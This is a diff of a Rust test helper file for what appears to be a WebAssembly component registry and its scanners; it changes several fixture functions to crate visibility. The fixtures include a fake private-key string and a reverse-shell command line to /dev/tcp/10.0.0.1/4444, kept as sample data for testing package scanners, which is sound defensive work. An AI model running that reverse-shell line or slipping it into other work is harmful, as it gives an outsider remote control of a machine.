@@ -10,14 +10,14 @@ use std::sync::Arc;
 use std::time::{Duration, Instant};
 
 /// A private key as scanners see it: nobody ever had it.
-const KEY: &str =
+pub(crate) const KEY: &str =
     "-----BEGIN PRIVATE KEY-----\\0aMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKjMzEfYyji\\0a";
 
 /// A way in for somebody else, about which scanners ask.
 const SCRIPT: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
 
 /// A component that answers `run`, with this in its data.
-fn tool(data: &str) -> Vec<u8> {
+pub(crate) fn tool(data: &str) -> Vec<u8> {
     component(&format!("(component {})", acts(data)))
 }
 
@@ -30,7 +30,7 @@ fn acts(data: &str) -> String {
 }
 
 /// A component that says it is a scanner, and does this when it is asked.
-fn scanner(import: &str, body: &str) -> Vec<u8> {
+pub(crate) fn scanner(import: &str, body: &str) -> Vec<u8> {
     component(&format!(
         "(component {import} (core module $m (func (export \"inspect\") (result i32) {body}))
         (core instance $i (instantiate $m)) (func $inspect (result u32) (canon lift (core func $i \"inspect\")))
@@ -61,7 +61,7 @@ fn bare_home(settings: &str, packages: &[(&str, &[u8])]) -> Arc<tempfile::TempDi
     folder
 }
 
-fn put(home: &Path, name: &str, version: &str, bytes: &[u8]) {
+pub(crate) fn put(home: &Path, name: &str, version: &str, bytes: &[u8]) {
     let path = home.join("registry").join(name).join(format!("{version}.wasm"));
     std::fs::create_dir_all(path.parent().expect("it has one")).expect("it can be made");
     std::fs::write(path, bytes).expect("it can be written");
